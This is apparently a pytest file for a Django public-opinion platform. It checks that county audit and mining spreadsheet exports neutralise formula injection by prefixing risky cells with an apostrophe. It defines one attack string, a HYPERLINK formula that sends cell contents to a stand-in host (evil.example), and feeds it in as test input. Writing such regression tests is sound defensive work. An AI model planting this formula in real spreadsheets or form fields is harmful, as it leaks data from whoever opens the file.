"""Spreadsheet formula injection: text anyone can type on a public page must reach a county's .xlsx as text.

An anonymous opinion written as ``=HYPERLINK(...)`` used to land in the audit export as a live formula; every export
now writes its cells through ``core.excel.safe_cell``.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook

from dianti.core import excel
from dianti.voices import services as voices

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"点这里查看")'


def _cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_inert(content: bytes, needle: str) -> None:
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell holds a live formula"
    assert [c for c in cells if isinstance(c.value, str) and c.value.startswith("'" + needle)]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1"])
def test_safe_cell_puts_an_apostrophe_before_what_could_start_a_formula(text):
    assert excel.safe_cell(text) == "'" + text


def test_safe_cell_leaves_numbers_and_plain_text_alone_and_drops_what_xlsx_cannot_hold():
    assert [excel.safe_cell(v) for v in (-3, 2.5, "路灯坏了", None, True)] == [-3, 2.5, "路灯坏了", "", "是"]
    assert excel.safe_cell("路灯\x00坏\x0b了") == "路灯坏了"


def test_an_anonymous_opinion_in_the_audit_export_is_text_not_a_formula(tree, users):
    voices.opinion_submit(organization=tree.village_a1, title=ATTACK, text=ATTACK + " 村口路灯坏了很久",
                          submitter=voices.Submitter("ip", "device"))
    admin = Client()
    admin.force_login(users.county_admin)
    response = admin.get("/audit/", {"format": "xlsx"})
    assert response.status_code == 200
    _assert_inert(response.content, "=HYPERLINK")


def test_opinions_in_the_mining_export_are_text_not_formulas(tmp_path: Path):
    rows = [["编号", "标题", "内容"], ["1", "=路灯坏了", ATTACK + "雪水港村路灯坏了"],
            ["2", "@路灯不亮", "-雪水港村路灯晚上不亮"], ["3", "+路灯坏了", "雪水港村路灯坏了很久"]]
    source = tmp_path / "意见.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    out = tmp_path / "结果.xlsx"
    call_command("mine", str(source), "--out", str(out), "--id-col", "编号", "--title-col", "标题",
                 "--text-col", "内容", "--workers", "1", stdout=io.StringIO())
    cells = _cells(out.read_bytes())
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell holds a live formula"
    values = {c.value for c in cells}
    assert {"'@路灯不亮", "'-雪水港村路灯晚上不亮", "'+路灯坏了"} <= values


def test_no_module_writes_a_spreadsheet_around_core_excel():
    """A new export must write through core.excel (workbook or safe_row): no other Workbook or csv.writer."""
    root = Path(excel.__file__).resolve().parents[1]
    allowed = {root / "core" / "excel.py", root / "voices" / "files.py"}  # files.py writes each row via safe_row
    writers = [p for p in root.rglob("*.py") if "tests" not in p.parts and p not in allowed
               and any(w in p.read_text(encoding="utf-8") for w in ("Workbook(", "csv.writer(", "DictWriter("))]
    assert writers == []
    assert (root / "voices" / "files.py").read_text(encoding="utf-8").count("append(safe_row(") == 2
